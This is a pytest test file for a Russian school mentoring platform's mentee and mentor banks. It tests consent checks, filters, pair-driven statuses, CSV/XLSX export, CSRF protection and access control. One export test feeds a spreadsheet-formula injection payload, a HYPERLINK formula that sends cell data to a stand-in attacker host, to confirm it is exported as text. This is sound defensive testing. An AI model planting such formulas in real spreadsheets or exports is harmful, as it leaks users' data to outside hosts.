"""The mentee and mentor banks: consent first, statuses that follow pairs, filters, export,
the personal link and the teacher's own questionnaire, and who may see any of it."""

import csv
import datetime as dt
import io
import re

import pytest
import time_machine
from bank_helpers import (
    MENTEE_ANSWERS,
    MENTOR_ANSWERS,
    consented,
    count,
    events_of,
    form_data,
    post,
    teacher,
)
from conftest import csrf_token, section_labels
from marshmallow import ValidationError
from openpyxl import load_workbook

from nastavnik.extensions import db
from nastavnik.platform import clock
from nastavnik.platform.roles import Role
from nastavnik.tenants.banks.models import MenteeEntry, MentorEntry
from nastavnik.tenants.banks.services import (
    bank_entries,
    change_mentee_status,
    enter_mentee,
    enter_mentor,
)
from nastavnik.tenants.pairs.services import finish_pair, form_pair
from nastavnik.tenants.questionnaires.models import QuestionnaireResponse

# What an older colleague answers; the staff list (born 1970, teaching since 1995) agrees.
OLDER = {**MENTEE_ANSWERS, "category": "on_request", "experience": "21_plus", "age": "35_60",
         "difficulties": ["exam_preparation"]}


@pytest.fixture
def school(make_school):
    return make_school()


@pytest.fixture
def curator(school, make_user, logged_in):
    return logged_in(make_user(Role.CURATOR, school))


def test_no_bank_entry_without_consent(school):
    person = teacher(school)
    for enter, answers in ((enter_mentee, MENTEE_ANSWERS), (enter_mentor, MENTOR_ANSWERS)):
        with pytest.raises(ValidationError) as error:
            enter(person, answers)
        assert "нет действующего согласия" in error.value.messages["consent"][0]
    db.session.commit()
    assert count(MenteeEntry) == count(MentorEntry) == count(QuestionnaireResponse) == 0


def test_the_curators_page_refuses_a_teacher_without_consent(school, curator):
    person = teacher(school)
    path = f"/s/{school.slug}/banks/mentees/enter/{person.id}"
    page = curator.get(path).get_data(as_text=True)
    assert "нет действующего согласия" in page
    response = curator.post(path, data=form_data(MENTEE_ANSWERS))
    assert response.status_code == 400
    assert count(MenteeEntry) == 0 and count(QuestionnaireResponse) == 0


def test_curator_enters_a_mentee_and_the_event_carries_codes_only(school, curator):
    person = consented(teacher(school, "Зайцева", "Нина"))
    path = f"/s/{school.slug}/banks/mentees/enter/{person.id}"
    response = post(curator, path, form_data(MENTEE_ANSWERS))
    assert response.status_code == 302
    entry = db.session.query(MenteeEntry).one()
    assert (entry.status, entry.category, entry.young_specialist) == (
        "waiting", "young_specialist", True)
    [event] = events_of("mentee.entered")
    assert event.payload == {
        "teacher": str(person.pseudonym), "difficulties": ["methods", "parents"],
        "category": "young_specialist", "young_specialist": True, "age_band": "under_35",
        "experience_band": "0_3"}
    assert curator.get(f"/s/{school.slug}/banks/").headers["Location"].endswith(
        "/banks/mentees/")
    page = curator.get(f"/s/{school.slug}/banks/mentees/").get_data(as_text=True)
    assert "Зайцева Нина" in page and "Банки" in section_labels(page)
    assert "Методики и технологии обучения" in page
    assert "Ожидает наставника" in page
    detail = curator.get(f"/s/{school.slug}/banks/mentees/entries/{entry.id}")
    assert "Трудно удержать внимание" in detail.get_data(as_text=True)


def test_bad_answers_on_the_page_get_russian_messages_and_nothing_is_saved(school, curator):
    person = consented(teacher(school))
    path = f"/s/{school.slug}/banks/mentees/enter/{person.id}"
    response = post(curator, path, form_data({
        **MENTEE_ANSWERS, "category": "", "difficulties": ["methods", "telepathy"],
        "difficulties_details": "x" * 2001}))
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "Ответьте на этот вопрос." in page
    assert "Такого варианта ответа нет в анкете." in page
    assert "Не длиннее 2000 символов." in page
    assert count(MenteeEntry) == 0 and count(QuestionnaireResponse) == 0
    assert events_of("questionnaire.answered") == []


def test_mentee_filters(school, curator):
    young = consented(teacher(school, "Юнова", "Ася"))
    older = consented(teacher(school, "Старова", "Вера", birth_year=1970, teaching_since=1995))
    enter_mentee(young, MENTEE_ANSWERS)
    enter_mentee(older, OLDER)
    db.session.commit()

    def names(**filters):
        return [e.teacher.last_name for e in bank_entries(school, "mentees", **filters)]

    assert names() == ["Старова", "Юнова"]
    assert names(young_only=True) == ["Юнова"]
    assert names(code="exam_preparation") == ["Старова"]
    assert names(status="in_pair") == []

    page = curator.get(f"/s/{school.slug}/banks/mentees/?code=parents&status=waiting")
    assert "Юнова" in page.get_data(as_text=True)
    assert "Старова" not in page.get_data(as_text=True)
    bad = curator.get(f"/s/{school.slug}/banks/mentees/?status=lost")
    assert bad.status_code == 400 and "Неверный вариант" in bad.get_data(as_text=True)


def test_mentor_bank_filters_by_competency_and_subject(school, curator):
    maths = consented(teacher(school, "Числова", "Ирина", teaching_since=2000), "mentor_bank")
    words = consented(teacher(school, "Словесова", "Мария"), "mentor_bank")
    enter_mentor(maths, MENTOR_ANSWERS)
    enter_mentor(words, {**MENTOR_ANSWERS, "subjects": ["russian"],
                         "competencies": ["parents"], "network_ready": "no"})
    db.session.commit()
    [event, _] = events_of("mentor.entered")
    assert event.payload == {
        "teacher": str(maths.pseudonym), "competencies": ["methods", "digital_tools"],
        "subjects": ["math", "informatics"], "capacity": 1, "network_ready": True,
        "qualification": "highest", "experience_band": "21_plus"}
    page = curator.get(f"/s/{school.slug}/banks/mentors/?subject=math").get_data(as_text=True)
    assert "Числова" in page and "Словесова" not in page
    page = curator.get(f"/s/{school.slug}/banks/mentors/?code=parents").get_data(as_text=True)
    assert "Словесова" in page and "Числова" not in page


EXPORT_FORM_RE = re.compile(r'<form method="post" action="([^"]+/export\.(csv|xlsx)[^"]*)"')


def export_buttons(client, page: str) -> dict[str, str]:
    """The export forms of a bank list page: format → action URL, as a browser posts it."""
    html = client.get(page).get_data(as_text=True)
    return {fmt: action.replace("&amp;", "&") for action, fmt in EXPORT_FORM_RE.findall(html)}


def test_export_csv_and_xlsx_are_logged(school, make_user, logged_in):
    enter_mentee(consented(teacher(school, "Юнова", "Ася")), MENTEE_ANSWERS)
    enter_mentee(consented(teacher(school, "Старова", "Вера", birth_year=1970,
                                  teaching_since=1995)), OLDER)
    db.session.commit()
    director = logged_in(make_user(Role.DIRECTOR, school))
    page = f"/s/{school.slug}/banks/mentees/?young_only=y"
    buttons = export_buttons(director, page)
    assert set(buttons) == {"csv", "xlsx"} and "young_only=y" in buttons["csv"]

    response = post(director, buttons["csv"], {}, token_from=page)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["ФИО", "Категория"]
    assert [row[0] for row in rows[1:]] == ["Юнова Ася Игоревна"]
    assert "Взаимодействие с родителями обучающихся" in rows[1][5]

    response = post(director, f"/s/{school.slug}/banks/mentees/export.xlsx", {},
                    token_from=page)
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "Старова Вера Игоревна", "Юнова Ася Игоревна"]
    assert [e.payload for e in events_of("bank.exported")] == [
        {"bank": "mentees", "rows": 1, "format": "csv"},
        {"bank": "mentees", "rows": 2, "format": "xlsx"}]
    assert post(director, f"/s/{school.slug}/banks/mentees/export.pdf", {},
                token_from=page).status_code == 404


def test_no_other_site_can_start_an_export(school, make_user, logged_in, app):
    """A link, an <img> or a form on another site reaches the export without a token."""
    enter_mentee(consented(teacher(school, "Юнова", "Ася")), MENTEE_ANSWERS)
    db.session.commit()
    director = logged_in(make_user(Role.DIRECTOR, school))
    export = f"/s/{school.slug}/banks/mentees/export.csv"

    response = director.get(export)
    assert response.status_code == 405 and "GET" not in response.headers["Allow"]
    assert director.post(export).status_code == 400
    page = director.get(f"/s/{school.slug}/banks/mentees/")
    other_browser = app.test_client()  # a token of another session is worth nothing here
    foreign = csrf_token(other_browser, "/login")
    assert director.post(export, data={"csrf_token": foreign}).status_code == 400
    assert page.status_code == 200 and events_of("bank.exported") == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_in_names_are_exported_as_text(school, make_user, logged_in, fmt):
    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+7(900)1", "-2+3", "@SUM(A1:A9)",
             "\tТабова", "=1+1"]
    for index, name in enumerate(names):
        enter_mentee(consented(teacher(school, name, f"Имя{index}", middle_name="")),
                     MENTEE_ANSWERS)
    db.session.commit()
    director = logged_in(make_user(Role.DIRECTOR, school))
    page = f"/s/{school.slug}/banks/mentees/"

    response = post(director, f"/s/{school.slug}/banks/mentees/export.{fmt}", {},
                    token_from=page)

    assert response.status_code == 200
    expected = sorted(f"{name} Имя{index}" for index, name in enumerate(names))
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
        assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in expected)
        return
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in cells) == expected
    assert {cell.data_type for cell in cells} == {"s"}


@pytest.mark.parametrize("outsider", ["curator of another school", "methodologist", "mentor"])
def test_bank_pages_are_hidden_from_everyone_but_the_schools_staff(
        school, make_school, make_user, logged_in, outsider):
    entry = enter_mentee(consented(teacher(school)), MENTEE_ANSWERS)
    db.session.commit()
    user = {"curator of another school": lambda: make_user(
                Role.CURATOR, make_school("school-b", municipality=school.municipality)),
            "methodologist": lambda: make_user(Role.METHODOLOGIST, school.municipality),
            "mentor": lambda: make_user(Role.MENTOR, school)}[outsider]()
    client = logged_in(user)
    for path in ("mentees/", "mentors/", f"mentees/entries/{entry.id}",
                 f"mentees/enter/{entry.teacher_id}"):
        assert client.get(f"/s/{school.slug}/banks/{path}").status_code == 404, path
    for path in ("mentees/export.csv", "mentees/export.xlsx"):
        assert post(client, f"/s/{school.slug}/banks/{path}", {},
                    token_from=f"/s/{school.slug}/").status_code == 404, path
    assert events_of("bank.exported") == []


def test_statuses_follow_pairs_through_the_event_log(school, autumn_2026):
    mentor = consented(teacher(school, "Опытова", "Анна"), "mentor_bank")
    first = consented(teacher(school, "Первова", "Ира"))
    second = consented(teacher(school, "Вторая", "Оля"))
    enter_mentor(mentor, MENTOR_ANSWERS)  # capacity 1
    for person in (first, second):
        enter_mentee(person, MENTEE_ANSWERS)

    pair = form_pair(school, mentor, [first], "traditional", dt.date(2026, 10, 1),
                     dt.date(2027, 5, 31))
    db.session.commit()
    mentor_entry = db.session.query(MentorEntry).one()
    entries = {e.teacher_id: e for e in db.session.query(MenteeEntry)}
    assert entries[first.id].status == "in_pair" and entries[first.id].pair == pair.id
    assert entries[second.id].status == "waiting"
    assert (mentor_entry.load, mentor_entry.status) == (1, "busy")
    assert [e.payload["status"] for e in events_of("mentee.status_changed")] == ["in_pair"]
    assert events_of("mentor.status_changed")[-1].payload == {
        "teacher": str(mentor.pseudonym), "status": "busy", "load": 1}

    finish_pair(school, pair, dt.date(2027, 5, 20))
    db.session.commit()
    assert entries[first.id].status == "finished"
    assert (mentor_entry.load, mentor_entry.status) == (0, "available")


def test_curator_supports_a_waiting_mentee_without_a_pair(school, curator):
    entry = enter_mentee(consented(teacher(school)), MENTEE_ANSWERS)
    db.session.commit()
    listing = f"/s/{school.slug}/banks/mentees/"
    path = f"/s/{school.slug}/banks/mentees/{entry.id}/status"
    assert post(curator, path, {"status": "supported"}, token_from=listing).status_code == 302
    db.session.expire_all()
    assert db.session.get(MenteeEntry, entry.id).status == "supported"
    assert events_of("mentee.status_changed")[-1].payload["status"] == "supported"
    assert "Сопровождается без пары" in curator.get(listing).get_data(as_text=True)

    response = post(curator, path, {"status": "finished"}, token_from=listing)
    assert response.status_code == 400
    with pytest.raises(ValidationError) as error:
        change_mentee_status(db.session.get(MenteeEntry, entry.id), "in_pair")
    assert "Так изменить статус нельзя" in error.value.messages["status"][0]


def issued_link(curator, school, person, bank: str = "mentees") -> str:
    """The curator issues a personal link on its page; the path it shows, once."""
    path = f"/s/{school.slug}/banks/{bank}/link/{person.id}"
    page = post(curator, path, {}).get_data(as_text=True)
    return re.search(r'value="http://localhost(/anketa/[^"]+)"', page).group(1)


def test_personal_link_opens_one_teachers_questionnaire_without_an_account(school, curator):
    person = consented(teacher(school, "Ссылкина", "Алла"))
    link = issued_link(curator, school, person)

    post(curator, "/logout", {}, token_from="/")
    opened = curator.get(link)
    assert opened.status_code == 303 and opened.headers["Location"] == "/anketa/"
    response = post(curator, "/anketa/", form_data(MENTEE_ANSWERS))
    assert response.status_code == 302 and response.headers["Location"].endswith("/spasibo")
    entry = db.session.query(MenteeEntry).one()
    assert entry.teacher_id == person.id
    assert events_of("mentee.entered")[0].actor_id is None


def test_a_forged_or_expired_link_gets_a_russian_message(app, school, curator):
    person = consented(teacher(school))
    token = issued_link(curator, school, person).removeprefix("/anketa/")
    client = app.test_client()
    forged = client.get(f"/anketa/{token[:-2]}xx")
    assert forged.status_code == 400
    assert "Ссылка повреждена или недействительна" in forged.get_data(as_text=True)
    assert client.get("/anketa/garbage").status_code == 400
    with time_machine.travel(clock.now() + dt.timedelta(days=8)):
        expired = client.get(f"/anketa/{token}")
    assert expired.status_code == 400
    assert "Ссылка больше не действует" in expired.get_data(as_text=True)


def test_link_of_a_teacher_without_consent_explains_what_is_missing(app, school, curator):
    person = teacher(school)
    client = app.test_client()
    client.get(issued_link(curator, school, person, "mentors"))
    page = client.get("/anketa/")
    assert page.status_code == 200
    assert "нет действующего согласия" in page.get_data(as_text=True)


def test_teacher_fills_own_questionnaire_in_the_account(school, make_user, logged_in):
    user = make_user(Role.MENTEE, school, full_name="Молодова Ксения")
    consented(teacher(school, "Молодова", "Ксения", user_id=user.id))
    client = logged_in(user)
    assert "Банк наставляемых: моя анкета" in client.get(f"/s/{school.slug}/").get_data(
        as_text=True)
    path = f"/s/{school.slug}/banks/my/mentees"
    assert post(client, path, form_data(MENTEE_ANSWERS)).status_code == 302
    assert db.session.query(MenteeEntry).one().teacher.last_name == "Молодова"
    assert client.get(f"/s/{school.slug}/banks/my/mentors").status_code == 404
    assert client.get(f"/s/{school.slug}/banks/mentees/").status_code == 404

    again = client.get(path).get_data(as_text=True)  # an update starts from the answers
    assert "Трудно удержать внимание" in again
    assert re.search(r'value="methods"[^>]*checked|checked[^>]*value="methods"', again)


def test_the_school_card_agrees_the_verb_with_the_number_waiting(school, curator):
    enter_mentee(consented(teacher(school)), MENTEE_ANSWERS)
    db.session.commit()
    page = curator.get(f"/s/{school.slug}/").get_data(as_text=True)
    assert "1 наставляемый, из них 1 ожидает наставника" in page


def test_bank_pages_lead_back_to_the_school_and_between_the_banks(school, curator):
    person = consented(teacher(school, "Зайцева", "Нина"))
    listing = curator.get(f"/s/{school.slug}/banks/mentees/").get_data(as_text=True)
    assert f'href="/s/{school.slug}/banks/mentors/">Банк наставников</a>' in listing
    form = curator.get(f"/s/{school.slug}/banks/mentees/enter/{person.id}").get_data(
        as_text=True)
    assert "Банк наставляемых. Анкета педагога: Зайцева Нина Игоревна" in form
    assert f'<a href="/s/{school.slug}/banks/mentees/">Банк наставляемых</a>' in form
    assert f'<a href="/s/{school.slug}/">' in form


def test_the_teachers_own_questionnaire_leads_back_to_the_school(school, make_user, logged_in):
    user = make_user(Role.MENTEE, school)
    teacher(school, user_id=user.id)  # no consent yet: the page explains, and a way back
    page = logged_in(user).get(f"/s/{school.slug}/banks/my/mentees").get_data(as_text=True)
    assert "нет действующего согласия" in page
    assert f'<a href="/s/{school.slug}/">' in page
    assert f'href="/s/{school.slug}/banks/mentees/"' not in page
